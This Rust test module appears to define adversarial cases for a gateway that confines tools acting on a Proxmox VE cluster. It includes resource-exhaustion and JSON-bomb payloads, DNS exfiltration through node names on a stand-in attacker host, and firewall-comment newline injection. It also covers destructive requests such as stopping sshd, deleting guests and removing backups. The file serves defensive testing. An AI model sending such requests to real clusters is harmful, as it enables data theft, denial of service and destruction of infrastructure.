//! The attacks, and what they may use.

use serde_json::{Value, json};

/// Calls of one tool of the hostile component.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) tool: &'static str,
    /// `URL` stands for the simulated cluster's address.
    pub(super) arguments: Value,
    /// How host-runner is started.
    pub(super) flags: Vec<&'static str>,
    /// What the simulated cluster does meanwhile.
    pub(super) faults: Vec<Value>,
    /// The only paths that it may read.
    reads: &'static [&'static str],
}

/// A request that must not leave.
pub(super) struct Request {
    pub(super) name: &'static str,
    pub(super) tool: &'static str,
    pub(super) flags: Vec<&'static str>,
    method: &'static str,
    path: String,
    body: &'static str,
}

/// Lists of tools that are too large to read.
pub(super) const LISTS: [&str; 5] = [
    "wide-schemas",
    "long-schemas",
    "deep-schemas",
    "many-tools",
    "long-names",
];

/// The end of a server whose places are all taken.
pub(super) const SIGNAL: &str = "spin-and-sigterm";

/// Policy files that the attacks are run under.
pub(super) const POLICIES: [(&str, &str); 1] = [(
    "expert.toml",
    "preset = \"admin\"\nallow = [\"GET /**\", \"POST /**\", \"PUT /**\", \"DELETE /**\"]\n",
)];

const ADMIN: &str = "--preset=admin";
const EXPERT: &str = "--policy=expert.toml";
const MEBIBYTE: usize = 1024 * 1024;
const VERSION: &[&str] = &["/version"];
const RESOURCES: &[&str] = &["/cluster/resources"];

impl Attack {
    fn new(name: &'static str, tool: &'static str, arguments: Value) -> Self {
        Self {
            name,
            tool,
            arguments,
            flags: vec![ADMIN],
            faults: Vec::new(),
            reads: &[],
        }
    }

    /// Whether it is about what Proxmox VE answers.
    pub(super) fn needs_the_cluster(&self) -> bool {
        !self.reads.is_empty() || !self.faults.is_empty()
    }

    fn reading(self, reads: &'static [&'static str]) -> Self {
        Self { reads, ..self }
    }

    fn scoped(self) -> Self {
        let flags = vec!["--vmids=100", "--tags=ai"];
        Self { flags, ..self }
    }

    fn answered_by(self, fault: Value) -> Self {
        let faults = vec![fault];
        Self { faults, ..self }
    }

    /// Whether this request is one that it may send.
    pub(super) fn lets_out(&self, request: &Value) -> bool {
        let text = |name: &str| request.get(name).and_then(Value::as_str);
        let is_read = text("method") == Some("GET");
        is_read && text("path").is_some_and(|path| self.reads.contains(&path))
    }
}

/// All that is about memory and processor time.
pub(super) fn attacks() -> impl Iterator<Item = Attack> {
    let spins = [
        ("spin-alone", "loop_forever", json!({})),
        ("spin-random", "spin", json!({ "on": "random" })),
        ("spin-clock", "spin", json!({ "on": "clock" })),
        ("spin-stderr", "spin", json!({ "on": "stderr" })),
        ("spin-headers", "spin", json!({ "on": "headers" })),
        ("spin-resources", "spin", json!({ "on": "resources" })),
        ("spin-polls", "spin", json!({ "on": "polls" })),
        ("sleep", "sleep_forever", json!({})),
        ("recurse", "recurse", json!({})),
    ];
    let hoards = [
        ("grow-memory", "grow_memory", json!({})),
        (
            "random-bytes",
            "random_bytes",
            json!({ "bytes": 64 << 20, "count": 4 }),
        ),
        ("zeroes", "zeroes", json!({ "bytes": 3_u64 << 30 })),
        (
            "hoard-streams",
            "hoard_streams",
            json!({ "count": 100_000 }),
        ),
        ("hoard-timers", "hoard_timers", json!({ "count": 100_000 })),
        ("hoard-headers", "hoard_headers", json!({ "count": 200 })),
        ("hoard-requests", "hoard_requests", json!({ "count": 200 })),
        (
            "hoard-bodies",
            "hoard_bodies",
            json!({ "url": "URL/api2/json/version", "count": 100_000 }),
        ),
        ("huge-result", "huge_result", json!({ "bytes": 50 << 20 })),
        ("large-result", "huge_result", json!({ "bytes": 1_000_000 })),
        (
            "wide-result",
            "bomb",
            json!({ "bytes": 20 << 20, "piece": "{},", "end": "0" }),
        ),
        (
            "deep-result",
            "bomb",
            json!({ "bytes": 20 << 20, "piece": "[", "end": "" }),
        ),
        (
            "full-result",
            "bomb",
            json!({ "bytes": 72_000, "piece": "{\"\":0},", "end": "0" }),
        ),
        (
            "huge-error",
            "fail_with",
            json!({ "message": "x".repeat(MEBIBYTE / 2) }),
        ),
        (
            "many-problems",
            "many_problems",
            json!({ "count": 1_000_000 }),
        ),
        // What a client sends in one line: a tool that takes no arguments gets
        // them all the same.
        (
            "line-of-values",
            "count_calls",
            json!({ "x": vec![0; MEBIBYTE / 2 - 200] }),
        ),
        (
            "line-of-lists",
            "count_calls",
            json!({ "x": vec![json!([]); 4500] }),
        ),
        (
            "line-of-text",
            "count_calls",
            json!({ "x": "x".repeat(MEBIBYTE - 1000) }),
        ),
        (
            "long-line",
            "count_calls",
            json!({ "x": "x".repeat(15 * MEBIBYTE) }),
        ),
        ("many-lines", "many_lines", json!({ "count": 2_000_000 })),
        (
            "huge-progress",
            "huge_progress",
            json!({ "bytes": 4 << 20 }),
        ),
        (
            "huge-log",
            "print_stderr",
            json!({ "text": "y".repeat(MEBIBYTE / 2) }),
        ),
    ];
    let refusal = |path: &str, body: Option<&str>, filler: &str, bytes: usize| {
        let method = if body.is_some() { "POST" } else { "GET" };
        json!({
            "url": "URL", "method": method, "path": path, "body": body,
            "filler": filler, "bytes": bytes, "count": 1000,
        })
    };
    let config = "/api2/json/nodes/pve1/qemu/100/config";
    let refusals = [
        (
            "refused-paths",
            refusal("/api2/json/nodes/pve1/FILLER", None, "n", 6000),
        ),
        (
            "refused-queries",
            refusal("/api2/json/nodes?a=FILLER&b", None, "n", 6000),
        ),
        ("refused-hosts", refusal("/FILLER", None, "%2e", 60_000)),
        (
            "refused-values",
            refusal(config, Some("delete=FILLER"), "scsi0,", 500_000),
        ),
        (
            "refused-params",
            refusal(config, Some("FILLERb=1"), "a=&", 500_000),
        ),
        (
            "refused-names",
            refusal(config, Some("FILLER=1"), "a", 500_000),
        ),
        (
            "refused-lists",
            refusal(
                "/api2/json/nodes/pve1/vzdump",
                Some("vmid=FILLER1"),
                "7,",
                500_000,
            ),
        ),
    ];
    let refusals = refusals
        .into_iter()
        .map(|(name, arguments)| Attack::new(name, "flood_refused", arguments));

    let version = json!({ "url": "URL/api2/json/version", "count": 200 });
    let huge = |path: &str| {
        json!({
            "cmd": "fault", "kind": "huge", "bytes": 15 * MEBIBYTE, "path": path, "times": 100_000,
        })
    };
    let answers = [
        Attack::new("flood", "flood", version.clone()).reading(VERSION),
        Attack::new("leave-open", "leave_open", version.clone()).reading(VERSION),
        Attack::new("hoard-answers", "hoard_answers", version)
            .reading(VERSION)
            .answered_by(huge("^/version$")),
        Attack::new(
            "huge-answers",
            "send_request",
            json!({ "url": "URL/api2/json/version" }),
        )
        .reading(VERSION)
        .answered_by(huge("^/version$")),
    ];
    let fill = |start: &str, piece: &str, end: &str| {
        let times = (15 * MEBIBYTE) / piece.len();
        format!("{start}{}{end}", piece.repeat(times))
    };
    let bombs = [
        (
            "bomb-one-text",
            fill(
                r#"{"data":[{"type":"qemu","vmid":100,"name":""#,
                "x",
                r#""}]}"#,
            ),
        ),
        (
            "bomb-tags",
            fill(
                r#"{"data":[{"type":"qemu","vmid":100,"tags":""#,
                "a;",
                r#""}]}"#,
            ),
        ),
        (
            "bomb-many-tags",
            fill(
                r#"{"data":[{}"#,
                &format!(
                    r#",{{"type":"lxc","vmid":1,"tags":"{}"}}"#,
                    "ai;".repeat(60)
                ),
                "]}",
            ),
        ),
        ("bomb-lines", fill(r#"{"data":[{}"#, r#",{"":0}"#, "]}")),
        ("bomb-values", fill(r#"{"data":[0"#, ",0", "]}")),
        (
            "bomb-wide-line",
            fill(r#"{"data":[[0"#, r#",{"":0}"#, "]]}"),
        ),
        (
            "bomb-wide-object",
            fill(r#"{"data":{"":[0"#, r#",{"":0}"#, "]}}"),
        ),
        ("bomb-deep", fill(r#"{"data":"#, "[", "")),
        (
            "bomb-escapes",
            fill(
                r#"{"data":[{"type":"qemu","vmid":100,"name":""#,
                r"\u0041",
                r#""}]}"#,
            ),
        ),
    ];
    let bombs = bombs.into_iter().map(|(name, body)| {
        let fault = json!({
            "cmd": "fault", "kind": "status", "code": 200, "body": body,
            "path": "^/cluster/resources$", "times": 100_000,
        });
        Attack::new(
            name,
            "send_request",
            json!({ "url": "URL/api2/json/cluster/resources" }),
        )
        .reading(RESOURCES)
        .answered_by(fault)
        .scoped()
    });
    let plain = spins.into_iter().chain(hoards);
    plain
        .map(|(name, tool, arguments)| Attack::new(name, tool, arguments))
        .chain(refusals)
        .chain(answers)
        .chain(bombs)
}

impl Request {
    pub(super) fn arguments(&self, authority: &str) -> Value {
        let headers = match self.body {
            "" => json!({}),
            _ => json!({ "content-type": ["application/x-www-form-urlencoded"] }),
        };
        json!({
            "method": self.method,
            "scheme": "https",
            "authority": authority,
            "path": format!("/api2/json{}", self.path),
            "headers": headers,
            "body": self.body,
        })
    }

    /// host-runner itself may look which guests and nodes there are.
    pub(super) fn lets_out(&self, request: &Value) -> bool {
        let text = |name: &str| request.get(name).and_then(Value::as_str);
        let own = [
            "/cluster/resources",
            "/cluster/status",
            "/nodes",
            "/version",
        ];
        let is_read = text("method") == Some("GET");
        is_read && text("path").is_some_and(|path| own.contains(&path) && path != self.path)
    }
}

/// Its name, the flags, the request.
type Case<'a> = (
    &'static str,
    &'a [&'static str],
    &'static str,
    String,
    &'static str,
);

/// All that is about the policy: each of these is a request that no flag here
/// allows.
pub(super) fn requests() -> impl Iterator<Item = Request> {
    let vmids = &["--vmids=100,200", ADMIN][..];
    let storages = &["--storages=local", ADMIN][..];
    let nodes = &["--nodes=pve1", ADMIN][..];
    let pools = &["--pools=lab", ADMIN][..];
    let admin = &[ADMIN][..];
    let expert = &[EXPERT][..];
    let scoped_expert = &["--vmids=100,200", EXPERT][..];
    let rules = "/nodes/pve1/qemu/100/firewall/rules";
    let guest = "/nodes/pve1/qemu/100";
    let cases: Vec<Case<'_>> = vec![
        // Names that are looked up, and carry data away.
        ("node-by-dns", &["--read-only"], "GET", "/nodes/736563726574.attacker.example/status".to_owned(), ""),
        ("node-by-dns-below", admin, "GET", "/nodes/736563726574.attacker.example/qemu/100/config".to_owned(), ""),
        ("node-by-address", admin, "GET", "/nodes/192.0.2.1/status".to_owned(), ""),
        ("node-unknown", admin, "GET", "/nodes/nosuchnode/status".to_owned(), ""),
        ("target-by-dns", admin, "POST", format!("{guest}/migrate"), "target=736563726574.attacker.example"),
        ("clone-target-by-dns", admin, "POST", format!("{guest}/clone"), "newid=900&target=736563726574.attacker.example"),
        ("localhost-beyond-nodes", nodes, "GET", "/nodes/localhost/qemu/300/config".to_owned(), ""),
        // Defaults that do harm.
        ("vzdump-that-prunes", admin, "POST", "/nodes/pve1/vzdump".to_owned(), "vmid=100&storage=local&mode=snapshot"),
        ("vzdump-that-removes", admin, "POST", "/nodes/pve1/vzdump".to_owned(), "vmid=100&storage=local&mode=snapshot&remove=1"),
        // What belongs to others.
        ("backup-of-others", vmids, "POST", "/nodes/pve1/qemu".to_owned(), "vmid=200&archive=local:backup/vzdump-qemu-104-2026_01_01-00_00_00.vma.zst&unique=1"),
        ("task-log-of-nobody", vmids, "GET", "/nodes/pve1/tasks/UPID:pve1:00000001:00000001:68000000:vzdump::root@pam:/log".to_owned(), ""),
        ("task-log-of-others", vmids, "GET", "/nodes/pve1/tasks/UPID:pve1:00000001:00000001:68000000:qmstart:104@local:root@pam:/log".to_owned(), ""),
        ("pool-of-others", pools, "GET", "/pools?poolid=prod".to_owned(), ""),
        ("cluster-log", nodes, "GET", "/cluster/log".to_owned(), ""),
        ("nextid-of-others", vmids, "GET", "/cluster/nextid?vmid=104".to_owned(), ""),
        // What Proxmox splits where others do not.
        ("storage-list-by-tab", storages, "POST", format!("{guest}/migrate"), "target=pve2&targetstorage=local:bulk%09tank:local"),
        ("storage-list-by-nul", storages, "POST", format!("{guest}/migrate"), "target=pve2&targetstorage=local:local%00tank"),
        ("storage-list-by-nbsp", storages, "POST", format!("{guest}/migrate"), "target=pve2&targetstorage=local%C2%A0tank"),
        ("storage-list-by-ideographic-space", storages, "POST", format!("{guest}/migrate"), "target=pve2&targetstorage=local%E3%80%80tank"),
        ("disk-list-by-nbsp", admin, "PUT", format!("{guest}/config"), "delete=name%C2%A0scsi0"),
        ("rule-comment-with-lines", admin, "POST", rules.to_owned(), "type=in&action=ACCEPT&comment=a%0A%5BOPTIONS%5D%0Aenable:%200"),
        ("rule-comment-with-return", admin, "POST", rules.to_owned(), "type=in&action=ACCEPT&comment=a%0D%5BOPTIONS%5D"),
        // Storages that are not named.
        ("clone-without-storage", storages, "POST", "/nodes/pve1/qemu/9000/clone".to_owned(), "newid=900&full=1"),
        ("suspend-without-storage", storages, "POST", format!("{guest}/status/suspend"), "todisk=1"),
        ("migrate-to-same-storages", storages, "POST", format!("{guest}/migrate"), "target=pve2&targetstorage=1&with-local-disks=1"),
        // Rules of an expert allow much, but not this.
        ("expert-remove", expert, "POST", "/nodes/pve1/vzdump".to_owned(), "vmid=100&storage=local&remove=1"),
        ("expert-hookscript", expert, "PUT", format!("{guest}/config"), "hookscript=local:snippets/a.pl"),
        ("expert-args", expert, "PUT", format!("{guest}/config"), "args=-chardev"),
        ("expert-replication", expert, "DELETE", "/cluster/replication/100-0".to_owned(), ""),
        ("expert-node-removal", expert, "DELETE", "/cluster/config/nodes/pve2".to_owned(), ""),
        ("expert-service", expert, "POST", "/nodes/pve1/services/sshd/stop".to_owned(), ""),
        ("expert-delete-guest", expert, "DELETE", guest.to_owned(), ""),
        ("expert-ha-of-others", scoped_expert, "DELETE", "/cluster/ha/resources/vm:104".to_owned(), ""),
        ("expert-pool-of-others", scoped_expert, "PUT", "/pools/prod".to_owned(), "vms=104&delete=1"),
        ("expert-stopall", scoped_expert, "POST", "/nodes/pve1/stopall".to_owned(), ""),
    ];
    cases
        .into_iter()
        .map(|(name, flags, method, path, body)| Request {
            name,
            tool: match method {
                "GET" => "send_raw_calmly",
                _ => "send_raw",
            },
            flags: flags.to_vec(),
            method,
            path,
            body,
        })
}
